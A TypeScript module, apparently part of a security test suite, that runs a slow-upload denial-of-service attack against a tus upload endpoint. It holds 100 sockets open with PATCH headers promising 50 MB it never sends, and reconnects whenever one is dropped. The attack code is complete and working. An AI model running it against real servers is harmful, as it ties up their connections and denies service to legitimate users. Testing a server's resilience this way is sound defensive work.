import { connect } from 'node:net';
import { EDITOR_ADDRESS, type EditorAttack } from './editor.ts';

const AT_ONCE = 100;
const AGAIN_MS = 500;
const BYTES = 50_000_000;

const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Says over many connections that bytes of one upload come, sends none, and begins again whenever one is ended. Answers how many the server still holds. */
export async function openIdlePatches(origin: string, { token, streamId }: EditorAttack): Promise<() => number> {
  const headers = { authorization: `Bearer ${token}`, 'tus-resumable': '1.0.0' };
  const metadata = `stream_id ${base64(String(streamId))},filename ${base64('a.mp3')}`;
  const made = await fetch(`${origin}/v1/studio/uploads`, {
    method: 'POST',
    headers: { ...headers, 'upload-length': String(BYTES), 'upload-metadata': metadata },
  });
  const { hostname, port, host } = new URL(origin);
  const head = Object.entries({ ...headers, host, 'upload-offset': 0, 'content-type': 'application/offset+octet-stream', 'content-length': BYTES })
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
  let held = 0;
  function open(): void {
    const socket = connect({ host: hostname, port: Number(port), localAddress: EDITOR_ADDRESS });
    socket.once('connect', () => {
      held += 1;
      socket.once('close', () => {
        held -= 1;
      });
      socket.write(`PATCH ${made.headers.get('location')} HTTP/1.1\r\n${head}\r\n`);
    });
    socket.once('data', () => socket.destroy());
    socket.once('close', () => setTimeout(open, AGAIN_MS));
    socket.on('error', () => {});
  }
  for (let n = 0; n < AT_ONCE; n += 1) open();
  return () => held;
}
